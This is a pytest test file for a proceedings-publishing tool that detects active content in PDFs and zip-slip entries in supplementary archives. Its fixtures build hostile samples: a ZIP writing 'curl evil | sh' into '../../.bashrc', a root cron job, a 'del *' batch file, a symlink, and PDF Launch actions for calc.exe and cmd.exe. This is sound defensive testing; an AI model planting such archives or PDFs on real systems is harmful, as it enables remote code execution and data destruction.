"""Active content in published files: `check` (and `build`) warn about a PDF with JavaScript, a Launch
action or an embedded file, and a supplementary ZIP whose entries would unpack outside their folder
(zip-slip names, absolute names, symbolic links). Found in the PDF reader's bounded worker process and
cached with the PDF's facts (a cache written before this check is read again)."""

from __future__ import annotations

import io
import json
import shutil
import stat
import subprocess
import zipfile
from pathlib import Path

import pypdf
import pytest
from pypdf.generic import ArrayObject, DictionaryObject, FloatObject, NameObject, TextStringObject

from conftest import run_build
from enlsp_proceedings.cli import main as cli_main
from enlsp_proceedings.pdf import active
from enlsp_proceedings.pdf.active import pdf_active_content, zip_escapes
from enlsp_proceedings.pdf.cache import PdfCache
from enlsp_proceedings.pdf.read import read_pdf
from synthetic import SynthPaper, make_pdf, write_workshop

AUTHORS = [{"name": "Élodie Dubois"}]
TITLE = "Sparse Attention for Tiny Phones"


@pytest.fixture(scope="module")
def clean_pdf(tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("clean") / "clean.pdf"
    make_pdf(path, TITLE, [a["name"] for a in AUTHORS], pages=2, references_page=2)
    return path


def variant(clean: Path, out: Path, change) -> Path:
    """``clean`` rewritten by pypdf with ``change(writer)`` applied."""
    writer = pypdf.PdfWriter(clone_from=pypdf.PdfReader(clean))
    change(writer)
    writer.write(out)
    return out


def action(**entries) -> DictionaryObject:
    return DictionaryObject({NameObject(k): v for k, v in entries.items()})


def link(writer: pypdf.PdfWriter, a: DictionaryObject) -> None:
    """A link annotation on page 1 whose action is ``a``."""
    annotation = DictionaryObject({NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
                                   NameObject("/Rect"): ArrayObject([FloatObject(10), FloatObject(10), FloatObject(50), FloatObject(50)]),
                                   NameObject("/A"): writer._add_object(a)})
    writer.add_annotation(0, annotation)


def document_js(writer: pypdf.PdfWriter, code: str) -> None:
    """Document-level JavaScript, run when the document opens: an entry of the catalog's /Names /JavaScript name tree."""
    names = writer.root_object.setdefault(NameObject("/Names"), DictionaryObject())
    tree = names.setdefault(NameObject("/JavaScript"), DictionaryObject({NameObject("/Names"): ArrayObject()}))
    entries = tree["/Names"]
    entries += [TextStringObject(f"script{len(entries)}"),
                writer._add_object(action(**{"/S": NameObject("/JavaScript"), "/JS": TextStringObject(code)}))]


CASES = {
    "document-javascript": (lambda w: document_js(w, "app.alert('hello');"), "JavaScript"),
    "open-action": (lambda w: w.root_object.__setitem__(NameObject("/OpenAction"), w._add_object(
        action(**{"/S": NameObject("/JavaScript"), "/JS": TextStringObject("this.print();")}))), "JavaScript"),
    "indirect-action-type": (lambda w: w.root_object.__setitem__(NameObject("/OpenAction"), action(
        **{"/S": w._add_object(NameObject("/JavaScript")), "/JS": TextStringObject("x();")})), "JavaScript"),
    "javascript-uri": (lambda w: link(w, action(**{"/S": NameObject("/URI"), "/URI": TextStringObject(" JavaScript:alert(1)")})), "JavaScript"),
    "launch": (lambda w: link(w, action(**{"/S": NameObject("/Launch"), "/F": TextStringObject("calc.exe")})), "a Launch action ('calc.exe')"),
    "launch-windows": (lambda w: link(w, action(**{"/S": NameObject("/Launch"), "/Win": action(**{"/F": TextStringObject("cmd.exe")})})),
                       "a Launch action ('cmd.exe')"),
    "embedded-file": (lambda w: w.add_attachment("run.exe", b"MZ\x90\x00 not really a program"), "an embedded file ('run.exe')"),
}


@pytest.mark.parametrize("case", sorted(CASES))
def test_active_content_is_found_in_a_pdf(tmp_path, clean_pdf, case):
    change, finding = CASES[case]
    facts = read_pdf(variant(clean_pdf, tmp_path / f"{case}.pdf", change))
    assert facts.ok and facts.active_content == [finding], facts.active_content


def test_a_clean_pdf_and_ordinary_links_are_not_active(tmp_path, clean_pdf):
    assert read_pdf(clean_pdf).active_content == []
    linked = variant(clean_pdf, tmp_path / "links.pdf", lambda w: link(w, action(**{"/S": NameObject("/URI"), "/URI": TextStringObject("https://example.org/")})))
    assert read_pdf(linked).active_content == []


def test_several_kinds_are_listed_together(tmp_path, clean_pdf):
    def change(writer):
        document_js(writer, "a();")
        document_js(writer, "b();")
        for name in ("a.txt", "b.exe", "c.sh", "d.bat"):
            writer.add_attachment(name, b"x")

    found = read_pdf(variant(clean_pdf, tmp_path / "many.pdf", change)).active_content
    assert found == ["JavaScript (2 places)", "4 embedded files ('a.txt', 'b.exe', 'c.sh' and 1 more)"]


def test_the_walk_is_bounded(tmp_path, clean_pdf, monkeypatch):
    """A PDF of millions of objects is not walked to its end: the walk stops and says so (the worker's time and memory limits hold too)."""
    monkeypatch.setattr(active, "MAX_OBJECTS", 3)
    found = pdf_active_content(pypdf.PdfReader(clean_pdf))
    assert found == ["more than 3 objects, not all of them looked at for active content"]


def evil_zip(path: Path) -> Path:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("code/main.py", "print('fine')\n")
        archive.writestr("../../.bashrc", "curl evil | sh\n")
        archive.writestr("/etc/cron.d/job", "* * * * * root sh\n")
        archive.writestr("C:\\Windows\\evil.bat", "del *\n")
        archive.writestr("code\\..\\..\\up.txt", "x\n")
        link_entry = zipfile.ZipInfo("code/data")
        link_entry.create_system = 3
        link_entry.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link_entry, "/home")
    return path


def test_zip_entries_that_escape_their_folder(tmp_path):
    with zipfile.ZipFile(evil_zip(tmp_path / "evil.zip")) as archive:
        found = zip_escapes(archive.infolist())
    assert found == ["../../.bashrc", "/etc/cron.d/job", "C:\\Windows\\evil.bat", "code\\..\\..\\up.txt", "code/data (a symbolic link)"]
    with zipfile.ZipFile(tmp_path / "fine.zip", "w") as archive:
        archive.writestr("code/main.py", "x")
        archive.writestr("data/..hidden/ok.txt", "x")  # two dots inside a name are not a parent folder
        archive.writestr("data/", "")
    with zipfile.ZipFile(tmp_path / "fine.zip") as archive:
        assert zip_escapes(archive.infolist()) == []


def active_workshop(root: Path, clean: Path) -> tuple[Path, Path]:
    papers = [SynthPaper("js", TITLE, AUTHORS, "An abstract.", pages=None, extra={"supplementary": "js-code.zip"}),
              SynthPaper("clean", TITLE, AUTHORS, "An abstract.", pages=None, extra={"supplementary": "clean-appendix.pdf"})]
    conf, papers_dir = write_workshop(root, papers, make_pdfs=False)
    variant(clean, papers_dir / "js.pdf", CASES["open-action"][0])
    shutil.copy(clean, papers_dir / "clean.pdf")
    evil_zip(papers_dir / "js-code.zip")
    variant(clean, papers_dir / "clean-appendix.pdf", CASES["embedded-file"][0])
    return conf, papers_dir


def test_check_warns_about_active_content_in_published_files(tmp_path, clean_pdf, capsys):
    active_workshop(tmp_path, clean_pdf)
    code = cli_main(["check", "--conf", str(tmp_path / "conf"), "--papers", str(tmp_path / "papers"), "--cache", str(tmp_path / "cache"), "--format", "json"])
    report = json.loads(capsys.readouterr().out)
    by_id = {p["id"]: {q["code"]: q for q in p["problems"]} for p in report["papers"]}
    assert code == 0 and report["errors"] == 0
    assert set(by_id["js"]) == {"pdf-active-content", "supplementary-zip-escape"}
    assert by_id["js"]["pdf-active-content"]["level"] == "warning"
    assert by_id["js"]["pdf-active-content"]["message"].startswith("the PDF contains JavaScript: it is published as it is")
    escape = by_id["js"]["supplementary-zip-escape"]["message"]
    assert escape.startswith("supplementary material 'js-code.zip' has 5 entries that an unpacker may write outside the folder it unpacks into "
                             "('../../.bashrc', '/etc/cron.d/job', 'C:\\\\Windows\\\\evil.bat' and 2 more)")
    assert set(by_id["clean"]) == {"supplementary-active-content"}
    assert "'clean-appendix.pdf': the PDF contains an embedded file ('run.exe')" in by_id["clean"]["supplementary-active-content"]["message"]


def test_facts_cached_before_this_check_are_read_again(tmp_path, clean_pdf):
    """Facts are cached by content hash; a cache written by the previous version (no active content) must not hide it."""
    from dataclasses import asdict

    from enlsp_proceedings.pdf.cache import file_sha256

    conf, papers_dir = active_workshop(tmp_path, clean_pdf)
    facts = read_pdf(papers_dir / "js.pdf")
    stale = asdict(facts) | {"version": 6}
    stale.pop("active_content")
    cache = PdfCache(tmp_path / "cache")
    cache.dir.mkdir(parents=True)
    (cache.dir / f"{file_sha256(papers_dir / 'js.pdf')}.json").write_text(json.dumps(stale))
    from enlsp_proceedings.pdf.check import run_check

    report = run_check(conf, papers_dir, tmp_path / "cache", only="js", quiet=True)
    assert "pdf-active-content" in {p.code for p in report.papers[0].problems}


@pytest.mark.latex
@pytest.mark.skipif(shutil.which("pdflatex") is None, reason="needs pdflatex")
def test_javascript_in_a_compressed_object_stream_is_found(tmp_path):
    """pdfTeX puts objects in compressed object streams: the name /JavaScript is nowhere in the file's bytes."""
    (tmp_path / "js.tex").write_text(
        "\\pdfobjcompresslevel=2\n\\pdfminorversion=5\n"
        "\\immediate\\pdfobj{<< /S /JavaScript /JS (app.alert\\string\\(1\\string\\);) >>}\n"
        "\\pdfcatalog{/OpenAction \\the\\pdflastobj\\space 0 R}\n"
        "\\documentclass{article}\\begin{document}\\title{Tiny Models}\\author{Bo Park}\\maketitle Hello.\\end{document}\n")
    subprocess.run(["pdflatex", "-interaction=batchmode", "-halt-on-error", "js.tex"], cwd=tmp_path, check=True, capture_output=True, timeout=120)
    data = (tmp_path / "js.pdf").read_bytes()
    assert b"/JavaScript" not in data and b"/ObjStm" in data
    assert read_pdf(tmp_path / "js.pdf").active_content == ["JavaScript"]
    assert pdf_active_content(pypdf.PdfReader(io.BytesIO(data))) == ["JavaScript"]


def test_build_warns_and_publishes_the_files_as_they_are(tmp_path, clean_pdf, capsys):
    active_workshop(tmp_path, clean_pdf)
    assert run_build(tmp_path, "--strict") == 0  # warnings: the organizer decides
    err = capsys.readouterr().err
    assert "warning: paper 'js': the PDF contains JavaScript" in err and "[supplementary-zip-escape]" in err
    site = tmp_path / "site" / "papers"
    assert (site / "js.pdf").read_bytes() == (tmp_path / "papers" / "js.pdf").read_bytes()
    assert (site / "js-supplementary.zip").is_file()
